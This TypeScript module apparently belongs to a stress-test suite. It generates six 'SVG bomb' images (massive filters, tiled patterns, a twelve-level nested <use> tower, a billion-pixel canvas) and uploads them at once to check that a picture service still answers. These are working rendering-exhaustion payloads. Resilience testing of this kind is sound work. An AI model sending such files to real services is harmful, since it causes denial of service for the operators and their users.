import { atOnce, type Attack } from '../attack.ts';
import { sendPicture } from '../pictureForm.ts';

const HEAD = '<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">';
const FILTER =
  '<filter id="f"><feTurbulence baseFrequency="0.9" numOctaves="9"/><feGaussianBlur stdDeviation="90"/></filter>' +
  '<pattern id="p" width="3" height="3"><circle r="2" filter="url(#f)"/></pattern>';

/** Drawings that cost far more to render than to send. */
const BOMBS: readonly (readonly [name: string, make: () => string])[] = [
  ['938 KB of filters', () => filled(938_000, '<rect width="99%" height="99%" filter="url(#f)"/>')],
  ['4.7 MB of patterns', () => filled(4_700_000, '<path d="M0 0h4e3v4e3z" fill="url(#p)"/>')],
  ['a tower of uses', useTower],
  ['a small one with a huge blur', () => filled(2000, '<circle r="2000" filter="url(#f)"/>')],
  ['190 KB of gradients and text', () => filled(190_000, '<text filter="url(#f)">bomb</text>')],
  ['a picture of 1e9 pixels', () => `${HEAD.replaceAll('4000', '1e9')}<rect/></svg>`],
];

export const svgBombs: Attack = {
  name: 'SVG bombs',
  what: 'six drawings at once, of 2 KB to 4.7 MB, that take seconds to minutes to draw',
  run: async ({ client, tally, loners }) => {
    await atOnce(BOMBS.length, async (index) => {
      const [name, make] = BOMBS[index] ?? BOMBS[0] ?? ['', () => ''];
      const who = loners[index % loners.length];
      if (who === undefined) return;
      const content = Buffer.from(make());
      const reply = await sendPicture(client, who, {
        name: 'p.svg',
        type: 'image/svg+xml',
        content,
      });
      tally.count(reply, `An SVG (${name})`);
      tally.expect(reply.status !== 0, `An SVG (${name}) was not answered in half a minute.`);
    });
  },
};

function filled(bytes: number, element: string): string {
  const count = Math.floor((bytes - HEAD.length - FILTER.length) / element.length);
  return `${HEAD}<defs>${FILTER}</defs>${element.repeat(Math.max(1, count))}</svg>`;
}

/** Twelve storeys, each of ten of the one below. */
function useTower(): string {
  const storeys = Array.from(
    { length: 12 },
    (_, at) => `<g id="s${at + 1}">${`<use href="#s${at}"/>`.repeat(10)}</g>`,
  );
  return `${HEAD}<defs><rect id="s0" width="9" height="9"/>${storeys.join('')}</defs><use href="#s12"/></svg>`;
}
